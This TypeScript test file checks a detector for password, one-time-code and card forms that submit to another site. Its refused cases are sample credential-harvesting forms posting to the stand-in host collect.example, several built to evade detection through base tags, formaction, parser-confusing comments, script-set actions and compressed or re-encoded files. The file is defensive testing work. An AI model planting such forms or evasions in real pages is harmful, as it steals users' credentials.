import assert from 'node:assert/strict';
import { test } from 'node:test';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { judge } from './checked-files.fixture.ts';
import { offSitePasswordForm } from './off-site-password-form.ts';

const password = '<input type="password" name="p">';
const elsewhere = 'https://collect.example/login';

const refused: Readonly<Record<string, string>> = {
  'a form that posts elsewhere': `<form action="${elsewhere}">${password}</form>`,
  'a form that posts elsewhere without a scheme': `<form action="//collect.example/x">${password}</form>`,
  'tags of other forms, and white space in the address': `<FORM ACTION=" https:\n//collect.example">${password}</FORM>`,
  'a button that posts elsewhere': `<form action="/in">${password}<button formaction="${elsewhere}">Go</button></form>`,
  'a page whose base lies elsewhere': `<base href="https://collect.example/"><form action="login">${password}</form>`,
  'a field that stands outside of its form': `<form id="f" action="${elsewhere}"></form><input form="f" type="password">`,
  'a form that is never closed': `<div><form action="${elsewhere}"><table><tr><td>${password}`,
  'a form that only a reader of tags would take for a comment': `<svg><p><style><!-- </style><form action="${elsewhere}">${password}</form>-->`,
  'a one-time code': `<form action="${elsewhere}"><input autocomplete="one-time-code"></form>`,
  'a card': `<form action="${elsewhere}"><input autocomplete="billing cc-number"></form>`,
  'a password by its name': `<form action="${elsewhere}"><input type="text" name="passwd"></form>`,
  'a form that a script writes': `<script>box.innerHTML = '<form action="${elsewhere}">' + '${password}'; box.innerHTML = \`<form action="${elsewhere}">${password}</form>\`</script>`,
  'a form whose action a script sets': `<form id="f">${password}</form><script>f.action = '${elsewhere}'</script>`,
  'a form whose action a script sets by attribute': `<form id="f">${password}</form><script>f.setAttribute('action', '${elsewhere}')</script>`,
};

for (const [what, page] of Object.entries(refused)) {
  test(`${what} is refused`, async () => {
    const finding = await judge(offSitePasswordForm, 'index.html', page);
    assert.equal(finding?.severity, 'refuse');
    assert.match(finding?.message ?? '', /collect\.example/u);
  });
}

const harmless: Readonly<Record<string, string>> = {
  'a form that posts to its own site': `<form action="/login">${password}</form>`,
  'a form without an action': `<form>${password}</form>`,
  'a form that posts to its own site by its whole address': `<form action="https://my-game.play.example/x">${password}</form>`,
  'a search form that posts elsewhere': '<form action="https://search.example/"><input name="q"></form>',
  'two forms that have nothing to do with each other': `<form action="${elsewhere}"><input name="q"></form><form>${password}</form>`,
  'a form in a comment': `<!-- <form action="${elsewhere}">${password}</form> -->`,
  'a form that writes an e-mail': `<form action="mailto:me@collect.example">${password}</form>`,
};

for (const [what, page] of Object.entries(harmless)) {
  test(`${what} is let through`, async () => {
    assert.equal(await judge(offSitePasswordForm, 'index.html', page), null);
  });
}

test('a form is found in every file that a browser would show as a page, and in no other', async () => {
  const page = `<form action="${elsewhere}">${password}</form>`;
  const xhtml = `<?xml version="1.0"?><h:html xmlns:h="http://www.w3.org/1999/xhtml"><h:script src="a.js"/><h:form action="${elsewhere}"><h:input type="password"/></h:form></h:html>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${page}</foreignObject></svg>`;
  const places: readonly (readonly [string, string | Uint8Array])[] = [
    ['a/b.htm', page],
    ['a.xhtml', xhtml],
    ['a.xml', xhtml],
    ['a.svg', svg],
    ['a.html.gz', gzipSync(page)],
    ['a.html.br', brotliCompressSync(page)],
    ['utf16.html', Buffer.from(`\ufeff${page}`, 'utf16le')],
    ['ui.js', `document.body.innerHTML = ${JSON.stringify(page)};`],
  ];
  for (const [path, content] of places) {
    assert.equal((await judge(offSitePasswordForm, path, content))?.severity, 'refuse', path);
  }
  for (const path of ['readme.txt', 'data.json', 'page.html.txt', 'noending']) {
    assert.equal(await judge(offSitePasswordForm, path, page), null, path);
  }
});
